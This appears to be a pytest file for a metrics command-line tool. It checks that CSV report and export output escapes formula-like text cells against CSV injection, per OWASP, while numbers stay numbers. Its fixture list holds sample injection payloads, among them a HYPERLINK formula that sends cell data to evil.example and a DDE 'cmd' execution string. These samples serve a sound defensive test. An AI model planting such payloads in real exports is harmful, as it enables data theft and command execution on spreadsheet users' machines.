"""CSV a spreadsheet opens safely (issue 18 item 19): report --csv and export --format csv write a text cell that
starts with = + - @, tab or CR with a leading single quote (OWASP, CSV injection); numbers stay numbers."""

import csv
import io
import json
from datetime import date

import pytest

from metrics_ops.store import file_name

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]


def _write_today(data_dir) -> None:
    today = date.today()
    at = f"{today.isoformat()}T00:00:01.000000Z"
    lines = [{"visitor_id": f"v{i}", "event": "page_view", "metadata": {"path": path, "note": path, "n": -3,
                                                                         "x": -1.5, "s": "-3"},
              "received_at": at, "ts": at, "client_rate": 1, "server_rate": 1} for i, path in enumerate(HOSTILE)]
    lines.append({"visitor_id": "-dash", "event": "-x", "metadata": {"path": "/fine"}, "received_at": at, "ts": at,
                  "client_rate": 1, "server_rate": 1})
    (data_dir / file_name(today)).write_text("".join(json.dumps(r) + "\n" for r in lines))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_nothing_runs(text: str) -> list[dict]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or _is_number(cell), cell
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("text, cell", [("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@a", "'@a"),
                                        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("/a", "/a"), ("", ""),
                                        ("a=b", "a=b"), ("'=1", "'=1")])
def test_text_cell(text, cell):
    from metrics_ops.csvcells import text_cell

    assert text_cell(text) == cell


def test_report_csv_quotes_formula_like_paths_and_keeps_numbers(data_dir, run):
    _write_today(data_dir)
    r = run("--data-dir", data_dir, "report", "--by", "path", "--top", "100", "--csv")
    assert r.exit_code == 0, r.output
    rows = _assert_nothing_runs(r.stdout)
    assert sorted(row["path"] for row in rows) == sorted(["'" + p for p in HOSTILE] + ["/fine"])
    assert all(row["events"] == "1" for row in rows)
    by_event = _assert_nothing_runs(run("--data-dir", data_dir, "report", "--by", "event", "--csv").stdout)
    assert {row["event"] for row in by_event} == {"page_view", "'-x"}


def test_export_csv_quotes_formula_like_text_and_keeps_numbers(data_dir, run):
    _write_today(data_dir)
    r = run("--data-dir", data_dir, "export", "--since", "today", "--format", "csv")
    assert r.exit_code == 0, r.output
    rows = _assert_nothing_runs(r.stdout)
    assert [row["metadata.path"] for row in rows] == ["'" + p for p in HOSTILE] + ["/fine"]
    assert [row["metadata.note"] for row in rows[:-1]] == ["'" + p for p in HOSTILE]
    assert {(row["metadata.n"], row["metadata.x"], row["metadata.s"]) for row in rows[:-1]} == {("-3", "-1.5", "'-3")}
    assert (rows[-1]["visitor_id"], rows[-1]["event"]) == ("'-dash", "'-x")


def test_a_carriage_return_inside_a_cell_never_starts_a_row(data_dir, run):
    today = date.today()
    at = f"{today.isoformat()}T00:00:01.000000Z"
    (data_dir / file_name(today)).write_text(json.dumps(
        {"visitor_id": "v", "event": "e", "metadata": {"path": "/a\r=1+1"}, "received_at": at, "ts": at}) + "\n")
    text = run("--data-dir", data_dir, "export", "--since", "today", "--format", "csv").stdout
    assert [row["metadata.path"] for row in _assert_nothing_runs(text)] == ["/a\r=1+1"]
    assert '"/a\r=1+1"' in text  # quoted: a spreadsheet keeps it in its cell
    report = run("--data-dir", data_dir, "report", "--by", "path", "--csv").stdout
    assert [row["path"] for row in _assert_nothing_runs(report)] == ["/a\r=1+1"]


def test_help_says_so(run):
    for command in ("report", "export"):
        assert "OWASP" in " ".join(run(command, "--help").stdout.split())
